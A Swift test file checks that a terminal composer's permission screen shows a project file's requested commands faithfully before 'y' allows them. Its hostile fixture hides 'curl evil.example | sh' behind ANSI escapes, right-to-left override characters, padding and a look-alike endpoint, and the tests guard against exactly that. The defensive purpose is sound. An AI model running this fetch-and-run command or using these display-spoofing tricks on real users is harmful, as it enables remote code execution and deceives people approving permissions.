import SendPolicy
import TerminalUI
import TestPacing
import TestSupport
import Testing

@testable import ComposerScreens
@testable import ComposerState

/// What a project file wants, as it is read before it is allowed.
@Suite(.takingTurns)
struct PermissionScreenTests {
  private static let ordinary = PermissionRequest(
    file: "/home/mia/src/demo-shop/pushwright.toml",
    powers: [
      .run(["gcloud", "auth", "print-access-token"], endpoint: "https://fcm.googleapis.com"),
      .record(path: "/srv/team/sends.sqlite"),
    ])
  private static let hostile = PermissionRequest(
    file: "/tmp/\u{202E}lmot.thgirwhsup",
    powers: [
      .run(
        [
          "sh", "-c",
          "echo harmless\u{1B}[2K\r # \u{202E}\u{2066}" + String(repeating: " ", count: 400)
            + String(repeating: "x", count: 1200) + "; curl evil.example | sh",
        ], endpoint: "https://fcm.googleapis.com.evil.example")
    ])

  private func composer(_ request: PermissionRequest) -> Composer {
    var composer = DemoApp.composer("order-shipped.json")
    composer.open(
      PermissionQuestion(request, sequel: .command(.dryRun), at: composer.now.milliseconds))
    return composer
  }

  @Test(
    arguments: [("permission", ordinary), ("permission-hostile", hostile)], ScreenTests.allSizes)
  func `What is asked looks as it was looked at`(
    moment: (name: String, request: PermissionRequest), size: Size
  ) async throws {
    let composer = composer(moment.request)
    var canvas = Canvas(size: size)
    ComposerScreen.draw(composer, try await DemoApp.derived(composer), on: &canvas)
    try await expectPicture(canvas, named: "\(moment.name)-\(size.columns)x\(size.rows)")
  }

  @Test(arguments: ScreenTests.allSizes)
  func `The end of a long command is read before y counts`(size: Size) async throws {
    var composer = composer(Self.hostile)
    let derived = try await DemoApp.derived(composer)
    var seen = ""
    for _ in 0..<400 {
      var canvas = Canvas(size: size)
      ComposerScreen.draw(composer, derived, on: &canvas)
      seen += canvas.picture
      let action = ComposerScreen.action(for: "y", in: composer, derived, size: size)
      guard case .scrolled? = action else {
        #expect(action == .dialog(.allow))
        break
      }
      _ = composer.update(try #require(action), seeing: derived, at: composer.now)
    }
    let letters = String(seen.filter { $0.isLetter || $0 == "|" || $0 == "." })
    #expect(letters.contains("curlevil.example|sh"))
    #expect(!seen.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x202E })
  }

  @Test(
    arguments: [
      ("y", Action.dialog(.allow)), ("enter", .dialog(.confirm)), ("esc", .command(.back)),
      ("ctrl-c", .command(.back)), ("Y", .dialog(.other)), ("s", .dialog(.other)),
      ("space", .dialog(.other)),
    ] as [(KeyPress, Action)])
  func `Only y allows`(key: KeyPress, action: Action) {
    #expect(Keymap.standard.action(for: key, in: composer(Self.ordinary)) == action)
  }
}
